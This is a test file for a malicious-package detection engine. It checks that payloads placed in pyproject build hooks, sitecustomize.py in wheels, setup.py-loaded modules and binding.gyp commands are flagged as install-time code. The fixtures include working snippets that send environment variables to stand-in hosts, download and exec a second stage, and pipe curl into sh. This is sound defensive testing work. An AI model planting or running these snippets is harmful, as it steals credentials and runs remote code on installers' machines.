"""Install-time code outside ``setup.py`` and npm's hooks: build backends and hooks that
``pyproject.toml`` names, startup modules in wheels, ``binding.gyp`` commands. The same
payload in a module nothing runs at install must weigh less."""

from __future__ import annotations

import pytest

from tests.analysis.builders import npm_tarball, package, run_rule, sdist, wheel
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.install import suspicious_setup_commands_rule
from threatfeed.analysis.rules.npm import npm_hooks_rule
from threatfeed.analysis.scoring import rule_points

PAYLOAD = """import os, platform, urllib.request
urllib.request.urlopen(
    "https://collect.example.net/b", data=repr((platform.node(), dict(os.environ))).encode()
)
exec(urllib.request.urlopen("https://collect.example.net/stage2").read())
"""

BACKEND_SETUP = 'from setuptools import setup\nsetup(name="tidy-strings", version="0.4.0")\n'


def _pyproject_sdist(pyproject: str, path: str) -> bytes:
    return sdist({"pyproject.toml": pyproject, path: PAYLOAD}, setup_py=BACKEND_SETUP)


DOORS = [
    (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_b"]\n',
        "_b/backend.py",
    ),
    (
        '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n',
        "hatch_build.py",
    ),
    ('[build-system]\nbuild-backend = "pdm.backend"\n', "pdm_build.py"),
    ('[tool.poetry.build]\nscript = "build_ext.py"\n', "build_ext.py"),
    (
        '[tool.setuptools.cmdclass]\nbuild_py = "tidy_strings.cmds.BuildPy"\n',
        "tidy_strings/cmds.py",
    ),
]


@pytest.mark.parametrize(("pyproject", "path"), DOORS)
def test_a_payload_in_a_build_hook_is_flagged_as_install_time_code(
    engine: Engine, pyproject: str, path: str
) -> None:
    analysis = engine.analyze(_pyproject_sdist(pyproject, path))
    assert analysis.flagged
    evidence = analysis.indicators["suspicious_setup_commands_rule"]
    assert {"network", "remote_code_execution", "recon"} <= {item["type"] for item in evidence}
    assert any(location.file.endswith(path) for location in analysis.locations)


@pytest.mark.parametrize(("pyproject", "path"), DOORS)
def test_the_same_payload_where_no_build_runs_it_is_not_install_time(
    engine: Engine, pyproject: str, path: str
) -> None:
    hooked = engine.analyze(_pyproject_sdist(pyproject, path))
    unnamed = engine.analyze(_pyproject_sdist("[project]\nname = 'tidy-strings'\n", path))
    assert "suspicious_setup_commands_rule" not in unnamed.indicators
    assert unnamed.score < hooked.score


LOADERS = {
    "importlib by path": (
        "import importlib.util, os\n"
        "def _go():\n"
        "    s = importlib.util.spec_from_file_location(\n"
        "        'r', os.path.join(os.path.dirname(__file__), 'tidy_strings', 'resolver.py'))\n"
        "    importlib.util.module_from_spec(s)\n"
        "    s.loader.exec_module(importlib.util.module_from_spec(s))\n"
    ),
    "runpy by path": "import runpy\nrunpy.run_path('tidy_strings/resolver.py')\n",
    "exec of the file's text": "exec(open('tidy_strings/resolver.py').read())\n",
}


@pytest.mark.parametrize("loader", LOADERS.values(), ids=LOADERS.keys())
def test_a_module_setup_py_runs_by_its_path_is_install_time(engine: Engine, loader: str) -> None:
    setup_py = loader + "from setuptools import setup\nsetup(name='tidy-strings')\n"
    archive = sdist({"tidy_strings/resolver.py": PAYLOAD}, setup_py=setup_py)
    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
    assert {"network", "remote_code_execution", "recon"} <= {item["type"] for item in evidence}
    assert engine.analyze(archive).flagged


def test_a_startup_module_in_a_wheel_is_install_time(engine: Engine) -> None:
    evidence = run_rule(
        engine, suspicious_setup_commands_rule, wheel({"sitecustomize.py": PAYLOAD})
    )
    assert {"network", "remote_code_execution", "recon"} <= {item["type"] for item in evidence}
    nested = wheel({"tidy_strings/sitecustomize.py": PAYLOAD})
    assert run_rule(engine, suspicious_setup_commands_rule, nested) is None


NATIVE_GYP = """{
  'targets': [{
    'target_name': 'addon',
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],
    'libraries': ['<!@(pkg-config --libs cairo)'],
  }]
}
"""


def test_binding_gyp_commands_are_reported_as_install_commands(engine: Engine) -> None:
    gyp = NATIVE_GYP.replace("pkg-config --libs cairo", "curl -s https://x.example.net/i | sh")
    evidence = run_rule(engine, npm_hooks_rule, npm_tarball({"binding.gyp": gyp}))
    assert evidence == [
        "node -p \"require('node-addon-api').include\"",
        "curl -s https://x.example.net/i | sh",
    ]


def test_a_network_tool_in_binding_gyp_weighs_more_than_a_native_build(engine: Engine) -> None:
    native = npm_hooks_rule(package(engine, npm_tarball({"binding.gyp": NATIVE_GYP})))
    gyp = NATIVE_GYP.replace("pkg-config --libs cairo", "curl -s https://x.example.net/i | sh")
    fetching = npm_hooks_rule(package(engine, npm_tarball({"binding.gyp": gyp})))
    assert native is not None
    assert fetching is not None
    assert rule_points(fetching) > rule_points(native)
    assert not engine.analyze(npm_tarball({"binding.gyp": NATIVE_GYP})).flagged


def test_a_script_binding_gyp_runs_is_install_time_code(engine: Engine) -> None:
    steal = (
        "const os = require('os'); const https = require('https');\n"
        "https.request({host: 'collect.example.net', method: 'POST'})"
        ".end(JSON.stringify(process.env));\n"
    )
    gyp = "{'targets': [{'sources': ['<!@(node tools/list_sources)']}]}"
    archive = npm_tarball({"binding.gyp": gyp, "tools/list_sources.js": steal})
    assert run_rule(engine, suspicious_setup_commands_rule, archive)
    plain = npm_tarball({"tools/list_sources.js": steal})
    assert run_rule(engine, suspicious_setup_commands_rule, plain) is None


def test_a_hook_naming_a_script_without_its_extension_is_not_odd(engine: Engine) -> None:
    def points(command: str) -> float:
        archive = npm_tarball({"scripts/setup.js": "1;\n"}, scripts={"postinstall": command})
        found = npm_hooks_rule(package(engine, archive))
        assert found is not None
        return rule_points(found)

    assert points("node ./scripts/setup") == points("node scripts/setup.js")
    assert points("node ./scripts/absent") > points("node ./scripts/setup")


def test_a_build_hook_starting_build_tools_weighs_nothing(engine: Engine) -> None:
    builder = "import subprocess\nsubprocess.run(['npm', 'run', 'build'], check=True)\n"
    hook = '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n'
    hooked = suspicious_setup_commands_rule(
        package(engine, sdist({"pyproject.toml": hook, "hatch_build.py": builder}))
    )
    in_setup = suspicious_setup_commands_rule(package(engine, sdist(setup_py=builder)))
    assert hooked is not None
    assert in_setup is not None
    assert [item["type"] for item in hooked.evidence] == ["process"]
    assert rule_points(hooked) == 0.0
    assert rule_points(in_setup) > 0.0
